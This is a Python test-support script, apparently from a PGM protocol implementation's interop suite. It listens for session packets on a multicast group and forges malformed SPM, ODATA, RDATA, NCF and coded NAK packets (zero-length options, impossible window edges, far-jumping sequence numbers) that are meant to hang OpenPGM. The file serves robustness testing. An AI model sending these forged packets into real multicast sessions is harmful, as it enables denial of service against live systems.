"""Packets that make OpenPGM hang, sent into a running session (INT-Q10, INT-Q11, W-20), and a NAK with a code.

`python -m tests.interop.support.attacker ADDRESS GROUP PORT [KIND ...]` listens for an SPM, and forges possible next
packets of that session. `coded_nak` is sent to the source, and its repair is awaited.
"""

from __future__ import annotations

import socket
import struct
import sys
from collections.abc import Callable

import attrs

from pgm.wire.control_packets import Nak, Spm, decode_control_untrusted, encode
from pgm.wire.formats import NO_WINDOW_LEAD, NO_WINDOW_TRAIL, OPTIONS_PRESENT, PacketType
from pgm.wire.option_rewriting import with_code
from pgm.wire.options import CODE_OCTETS
from pgm.wire.sequence_numbers import HALF, wrap
from tests.reference import data_packet, sealed

FAR = 1 << 30  # sqns; OpenPGM allocates a placeholder for each
ENDLESS = b"\0\4\0\x0c" + b"\x71\0\0\0" + b"\xf1\4\0\0"  # OPT_LENGTH, an option of length 0, and an unreachable OPT_END
OPTIONS_AT = 5  # octet of the header


def no_window(spm: Spm) -> bytes:
    """Return an SPM with the edges that mean "no window"; a naive reader sees a window of 2^31 sqns."""
    return encode(attrs.evolve(spm, trail=NO_WINDOW_TRAIL, lead=NO_WINDOW_LEAD))


def wide_window(spm: Spm) -> bytes:
    """Return an SPM whose edges are one sqn further apart than any window."""
    return encode(attrs.evolve(spm, lead=wrap(spm.trail + HALF)))


def far_lead(spm: Spm) -> bytes:
    """Return an SPM whose lead jumps."""
    return encode(attrs.evolve(spm, lead=wrap(spm.lead + FAR)))


def endless_options(spm: Spm) -> bytes:
    """Return an SPM with an option of length 0."""
    changed = bytearray(encode(spm) + ENDLESS)
    changed[OPTIONS_AT] |= OPTIONS_PRESENT
    return sealed(bytes(changed))


def endless_options_of_data(spm: Spm) -> bytes:
    """Return the next ODATA with an option of length 0."""
    sqn = wrap(spm.lead + 1)
    return data_packet(sqn, tsi=spm.tsi, data_port=spm.data_port, trail=spm.trail, option_octets=ENDLESS)


def far_data(spm: Spm, kind: PacketType = PacketType.ODATA) -> bytes:
    """Return ODATA whose sqn jumps."""
    sqn = wrap(spm.lead + FAR)
    return data_packet(sqn, b"far", tsi=spm.tsi, data_port=spm.data_port, trail=spm.trail, kind=kind)


def far_repair(spm: Spm) -> bytes:
    """Return RDATA whose sqn jumps."""
    return far_data(spm, PacketType.RDATA)


def far_ncf(spm: Spm, group: str) -> bytes:
    """Return an NCF for a packet that was never sent."""
    packet = Nak(
        tsi=spm.tsi,
        data_port=spm.data_port,
        kind=PacketType.NCF,
        sqn=wrap(spm.lead + FAR),
        source_nla=spm.path_nla,
        group_nla=group,
    )
    return encode(packet)


def coded_nak(spm: Spm, group: str) -> bytes:
    """Return a NAK with a code (OPT_PGM_CODE) for the newest packet."""
    packet = Nak(tsi=spm.tsi, data_port=spm.data_port, sqn=spm.lead, source_nla=spm.path_nla, group_nla=group)
    return with_code(encode(packet), bytes(CODE_OCTETS))


def coded_ncf(spm: Spm, group: str) -> bytes:
    """Return an NCF with a code for the newest packet."""
    packet = Nak(
        tsi=spm.tsi,
        data_port=spm.data_port,
        kind=PacketType.NCF,
        sqn=spm.lead,
        source_nla=spm.path_nla,
        group_nla=group,
    )
    return with_code(encode(packet), bytes(CODE_OCTETS))


FOR_GROUP: dict[str, Callable[[Spm, str], bytes]] = {forge.__name__: forge for forge in (far_ncf, coded_ncf)}
FORGERIES: dict[str, Callable[[Spm], bytes]] = {
    forge.__name__: forge
    for forge in (
        no_window,
        wide_window,
        far_lead,
        endless_options,
        endless_options_of_data,
        far_data,
        far_repair,
    )
}


def open_ear(group: str, port: int, address: str) -> socket.socket:
    """Return a socket that hears the group."""
    ear = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ear.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ear.bind((group, port))
    request = struct.pack("4s4s", socket.inet_aton(group), socket.inet_aton(address))
    ear.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, request)
    return ear


def hear_spm(group: str, port: int, address: str) -> Spm:
    """Wait for an SPM on the group."""
    with open_ear(group, port, address) as ear:
        while True:
            octets = ear.recv(1 << 16)
            packet = decode_control_untrusted(octets) if octets[4] == PacketType.SPM else None
            if isinstance(packet, Spm):
                return attrs.evolve(packet, options=())


def request_repair(gun: socket.socket, group: str, port: int, address: str) -> None:
    """Send NAKs with codes for the newest packet until the source repairs it."""
    with open_ear(group, port, address) as ear:
        ear.settimeout(0.2)
        while True:
            heard = hear_spm(group, port, address)
            gun.sendto(coded_nak(heard, group), (heard.path_nla, port))
            try:
                while ear.recv(1 << 16)[4] != PacketType.RDATA:
                    pass
                return
            except TimeoutError:
                pass


def main(address: str, group: str, port: int, kinds: list[str]) -> None:
    """Send the named forgeries, or all; a forged SPM is the next one of the session."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as gun:
        gun.bind((address, 0))
        gun.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        if kinds == [coded_nak.__name__]:
            request_repair(gun, group, port, address)
            print(coded_nak.__name__, flush=True)
            return
        for kind in kinds or [*FORGERIES, far_ncf.__name__]:
            heard = hear_spm(group, port, address)
            following = attrs.evolve(heard, spm_sqn=wrap(heard.spm_sqn + 1))
            forged = FORGERIES[kind](following) if kind in FORGERIES else FOR_GROUP[kind](following, group)
            gun.sendto(forged, (group, port))
            print(kind, flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:])
